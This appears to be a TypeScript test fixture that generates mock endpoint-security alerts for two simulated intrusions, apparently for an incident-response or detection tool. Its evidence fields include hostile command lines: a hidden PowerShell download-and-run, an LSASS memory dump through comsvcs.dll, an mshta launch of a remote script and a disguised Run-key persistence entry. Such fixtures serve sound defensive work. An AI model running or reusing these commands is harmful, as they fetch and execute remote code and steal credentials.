import { PLACES } from './machines.ts'
import { alert, file, ip, process, stamp, url, user } from './shapes.ts'

const SYSTEM32 = 'C:\\Windows\\System32'

/** Two intrusions under way at `now`: one over three machines, one with two alerts on a machine of the chief officers. */
export function openingIntrusions(now: number): readonly unknown[] {
  const ago = (minutes: number): number => now - minutes * 60_000
  return [
    alert({
      id: 'da638972110413275904_-1187342956',
      title: 'PowerShell fetched and ran code from the internet',
      description:
        'A PowerShell process started by an Office document downloaded text from an address with no reputation and ran it in memory. Nothing was written to disk.\n\nAttackers use this to bring their tools onto a machine. Look at what the process started next.',
      severity: 'High',
      category: 'Execution',
      incident: 4107,
      place: PLACES.accounting,
      user: 'm.okafor',
      eventAt: ago(52),
      createdAt: ago(48),
      techniques: ['T1059.001', 'T1105', 'T1204.002'],
      evidence: [
        process(
          `${SYSTEM32}\\WindowsPowerShell\\v1.0`,
          'powershell.exe',
          7412,
          'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'hxxp://198.51.100.77/a?i=212\')"',
          'EXCEL.EXE',
        ),
        file('C:\\Users\\m.okafor\\Downloads', 'Overdue invoices [March].xlsm'),
        ip('198.51.100.77'),
        url('http://198.51.100.77/a?i=212'),
        user('m.okafor'),
      ],
      as: { investigationId: 88, investigationState: 'PendingApproval', threatFamilyName: 'Donoff' },
    }),
    alert({
      id: 'da638972118840021337_1420078511',
      title: "Memory of 'lsass.exe' was read by an unusual process",
      description:
        'A process that seldom does so opened the Local Security Authority and copied its memory. Passwords and tickets of everybody who is logged on may be in the hands of the attacker.',
      severity: 'High',
      category: 'CredentialAccess',
      incident: 4107,
      place: PLACES.files,
      user: 'svc-backup',
      eventAt: ago(31),
      createdAt: ago(29),
      techniques: ['T1003.001'],
      evidence: [
        process(
          SYSTEM32,
          'rundll32.exe',
          5120,
          `rundll32.exe ${SYSTEM32}\\comsvcs.dll, MiniDump 704 C:\\PerfLogs\\d.bin full`,
          'WmiPrvSE.exe',
        ),
        file('C:\\PerfLogs', 'd.bin'),
        user('svc-backup'),
        ip('10.20.1.112'),
      ],
    }),
    alert({
      id: 'da638972121197734410_-64085213',
      title: 'A service was installed from another machine',
      description:
        'Over an administrative share a program was copied to this machine and registered as a service. The account had not done this in the past 180 days.',
      severity: 'Medium',
      category: 'LateralMovement',
      incident: 4107,
      place: PLACES.domainController,
      user: 'svc-backup',
      eventAt: ago(19),
      createdAt: ago(18),
      techniques: ['T1021.002', 'T1569.002'],
      evidence: [
        process(SYSTEM32, 'services.exe', 1908, `${SYSTEM32}\\services.exe`, 'wininit.exe'),
        file('C:\\Windows', 'qxvtsvc.exe'),
        user('svc-backup'),
        ip('10.20.0.21'),
      ],
      as: { lastUpdateTime: stamp(ago(17), 0), lastEventTime: stamp(ago(16), 1) },
    }),
    alert({
      id: 'da5f0e2c91-7b34-4d18-9a6e-c1d20b7f4e88_1',
      title: 'A shortcut in a mailed archive started a script host',
      description: 'The person opened a ZIP archive from an email. A shortcut in it started mshta.exe with a remote address.',
      severity: 'Medium',
      category: 'InitialAccess',
      incident: 4112,
      place: PLACES.finance,
      user: 'h.lindqvist',
      eventAt: ago(140),
      createdAt: ago(133),
      techniques: ['T1566.001', 'T1218.005'],
      evidence: [
        process(SYSTEM32, 'mshta.exe', 9264, 'mshta.exe https://files.fabrikam-invoices.example/view.hta', 'explorer.exe'),
        file('C:\\Users\\h.lindqvist\\AppData\\Local\\Temp', 'Board_minutes.pdf.lnk'),
        url('https://files.fabrikam-invoices.example/view.hta'),
        user('h.lindqvist'),
      ],
      as: { status: 'InProgress', assignedTo: 'lead@fabrikam.example', lastUpdateTime: stamp(ago(90), 4) },
    }),
    alert({
      id: 'da91d4a7be-02c5-4f6b-8e11-7a3c5d90e2f4_1',
      title: 'A seldom seen program was set to start at logon',
      description:
        'A value was written to a Run key by a script host. The program it names is known on fewer than ten machines world-wide.',
      severity: 'Low',
      category: 'Persistence',
      incident: 4112,
      place: PLACES.finance,
      user: 'h.lindqvist',
      eventAt: ago(131),
      createdAt: ago(127),
      techniques: ['T1547.001'],
      evidence: [
        {
          entityType: 'Registry',
          registryHive: 'HKEY_CURRENT_USER',
          registryKey: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run',
          registryValueName: 'OneDrive Sync Helper',
          registryValue: 'C:\\Users\\h.lindqvist\\AppData\\Roaming\\odsync.exe /q',
          registryValueType: 'Unicode',
        },
        file('C:\\Users\\h.lindqvist\\AppData\\Roaming', 'odsync.exe'),
      ],
    }),
  ]
}
